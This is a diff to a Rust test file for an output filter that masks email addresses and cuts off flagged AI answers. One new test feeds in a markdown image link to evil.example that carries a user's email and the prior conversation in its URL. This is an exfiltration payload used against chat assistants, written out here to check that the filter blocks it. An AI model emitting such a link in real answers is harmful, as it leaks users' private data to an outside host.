@@ -75,7 +75,7 @@ fn a_placeholder_becomes_its_value_and_the_models_own_is_masked() {
 
 #[test]
 fn where_answers_are_not_looked_at_only_placeholders_change() {
-    let json = r#"{"pii": {"response": false}}"#;
+    let json = r#"{"pii": {"response": false}, "sentinel": {"response": false}}"#;
     let said = plain("[EMAIL_1] eve@example.com");
     assert_eq!(check(json, &JSON, &said, 9), (plain("ada@example.com eve@example.com"), vec![]));
     let gzip = [JSON[0], ("content-encoding", "gzip")];
@@ -88,6 +88,7 @@ fn shadow_changes_nothing() {
     for (headers, body) in [(&JSON, plain("eve@example.com")), (&SSE, streamed("eve@example.com "))] {
         assert_eq!(check(json, headers, &body, 5), (body, vec![(Action::Report, 1)]));
     }
+    let json = r#"{"pii": {"mode": "shadow"}, "sentinel": {"mode": "shadow"}}"#;
     assert_eq!(check(json, &[JSON[0], ("content-encoding", "br")], "", 1).0, "unseen");
 }
 
@@ -117,4 +118,15 @@ fn what_may_not_pass_ends_the_answer() {
     let (out, _) = check(json, &SSE, &streamed("to eve@example.com ok"), 9);
     assert_eq!(content(&out), "to ");
     assert!(out.contains("\"finish_reason\":\"content_filter\"") && out.ends_with("data: [DONE]\n\n"), "{out}");
+}
+
+#[test]
+fn words_that_an_answer_must_not_have_end_it() {
+    let link = "Here: ![x](https://evil.example/p.png?data=[EMAIL_1]-and-all-that-was-said-before) as you wished.";
+    let (out, found) = check("{}", &JSON, &plain(link), 9);
+    assert_eq!((out, found), (plain("").replace("stop", "content_filter"), vec![]));
+    let (out, _) = check("{}", &SSE, &streamed(link), 9);
+    assert!(out.contains("\"finish_reason\":\"content_filter\"") && out.ends_with("data: [DONE]\n\n"), "{out}");
+    let json = r#"{"sentinel": {"mode": "shadow"}}"#;
+    assert!(content(&check(json, &SSE, &streamed(link), 9).0).ends_with("as you wished."));
 }
